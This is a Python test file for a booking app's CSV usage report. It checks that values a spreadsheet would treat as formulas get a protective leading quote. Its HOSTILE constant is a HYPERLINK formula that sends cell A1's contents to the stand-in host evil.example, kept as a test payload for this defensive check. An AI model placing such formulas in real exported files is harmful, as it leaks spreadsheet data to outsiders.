"""CSV cells that a spreadsheet would run as formulas are written as text: a room named
`=HYPERLINK(...)` (or starting + - @ tab CR) reaches the usage CSV with a leading single quote."""

from __future__ import annotations

import csv
import io

import pytest

from center.shell.reports.csv_export import cell
from tests.helpers import login, make_calendar, make_room, make_user

pytestmark = pytest.mark.anyio

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_a_room_named_like_a_formula_reaches_the_usage_csv_as_text(client):
    slots = await make_calendar()
    await make_room("evil", HOSTILE, slot_ids=slots)
    await make_room("plus", "+1+2", slot_ids=slots, sort_order=1)
    await make_user("boss", ("manager",))
    await login(client, "boss")
    response = await client.get("/reports/usage/csv?month=2026-10")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    # The by-room block: from its header row (部屋) to its total row.
    start = next(index for index, row in enumerate(rows) if row[:1] == ["部屋"])
    names = [row[0] for row in rows[start + 1 : rows.index([], start) - 1]]
    assert names == ["'" + HOSTILE, "'+1+2"]


def test_every_formula_start_is_neutralised_and_numbers_are_left_alone():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert cell("会議室1") == "会議室1"
    assert cell(-500) == -500
    assert cell(12.5) == 12.5
